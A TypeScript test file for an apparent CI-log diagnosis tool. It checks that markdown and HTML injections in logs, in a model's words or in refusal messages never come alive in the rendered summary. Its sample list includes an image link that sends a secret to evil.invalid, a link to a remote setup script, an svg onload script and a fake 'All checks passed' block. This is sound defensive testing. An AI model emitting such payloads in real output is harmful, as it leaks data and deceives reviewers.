// Markup, links, mentions and fences of a log in the summary, rendered and inspected (security.md T05).
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { promptFiles } from '../../src/adapters/prompt-files.ts'
import { fence } from '../../src/report/markdown.ts'
import { summary } from '../../src/report/summary.ts'
import { fakeModel } from '../fakes/model.ts'
import { hostileTexts, live } from '../report/rendered.ts'
import { diagnosed, places, serverUrl } from './diagnosed.ts'

const hostile = [
  ...hostileTexts,
  '![pixel](//evil.invalid/p?d=secret)',
  '[install the fix](https://evil.invalid/setup.sh)',
  '<a href="https://evil.invalid">details</a>',
  '<svg onload=alert(1)>',
  '<details open><summary>All checks passed</summary>',
  '[ref]: https://evil.invalid/ "x"\n[ref]',
  'resolves octo/other#3 and @octo/owners',
  '<!--\n-->',
] as const

const free = { requests: 1, inputTokens: 0, outputTokens: 0, cachedTokens: 0 }
const outbreaks = ['```\n![x](https://evil.invalid)', '`````\n<img src=x>\n`````']

for (const text of hostile) {
  test(`nothing of it comes alive: ${JSON.stringify(text)}`, async () => {
    for (const place of places)
      assert.deepEqual(live(summary(await diagnosed(text, place), { serverUrl }), serverUrl), [])
    assert.notDeepEqual(live(text, serverUrl), [], 'without the defence it is alive')
  })
}

for (const text of outbreaks) {
  test(`no fence is left: ${JSON.stringify(text)}`, async () => {
    assert.deepEqual(live(summary(await diagnosed(text, 'line'), { serverUrl }), serverUrl), [])
    assert.deepEqual(live(fence(text), serverUrl), [])
    assert.notDeepEqual(live(`\`\`\`\n${text}\n\`\`\``, serverUrl), [], 'a fence of fixed length is left')
  })
}

/** The summary of a harmless log, with a problem in a model's words that a line of the log proves. */
async function inWordsOf(words: string): Promise<string> {
  const { failures } = await diagnosed('begin', 'line')
  const ids = failures.map(({ id }) => id)
  const rootCause = { text: words, failureId: ids[0], quote: failures[0]?.message }
  const said = { failures: ids, follows: [], primary: ids[0], brokeJob: true, title: words, causeClass: 'change' }
  const model = fakeModel([{ problems: [{ ...said, rootCause }] }])
  const prompts = promptFiles(new URL('../../', import.meta.url))
  const report = await diagnosed('begin', 'line', undefined, { model, prompts })
  assert.equal(report.model?.used, true)
  assert.notEqual(report.problems[0]?.title, failures[0]?.message, 'its words are in the report')
  return summary(report, { serverUrl })
}

test('nothing comes alive of what a model says', async () => {
  for (const text of [...hostile, ...outbreaks]) assert.deepEqual(live(await inWordsOf(text), serverUrl), [], text)
  for (const text of hostile) assert.notDeepEqual(live(text, serverUrl), [], 'without the defence it is alive')
})

test('nothing comes alive of what an endpoint refuses with', async () => {
  for (const text of hostile) {
    const model = {
      ...fakeModel([]),
      ask: async () => ({ ok: false, code: 'model_unusable', why: `it refused (${text}).`, usage: free }) as const,
    }
    const prompts = promptFiles(new URL('../../', import.meta.url))
    const report = await diagnosed('begin', 'line', undefined, { model, prompts })
    assert.ok(report.model?.note.includes('it refused'))
    assert.deepEqual(live(summary(report, { serverUrl }), serverUrl), [], text)
  }
})

test('a summary that is too long still ends everything that it opened', async () => {
  const report = await diagnosed(
    Array.from({ length: 400 }, (_, i) => `src/a${i}.js:1:1: error: <b>${'x'.repeat(300)}`).join('\n'),
    'line',
  )
  const short = summary(report, { serverUrl, maxBytes: 20_000 })
  assert.ok(Buffer.byteLength(short) <= 20_000)
  assert.deepEqual(live(short, serverUrl), [])
  assert.equal(short.split('<details>').length, short.split('</details>').length)
})
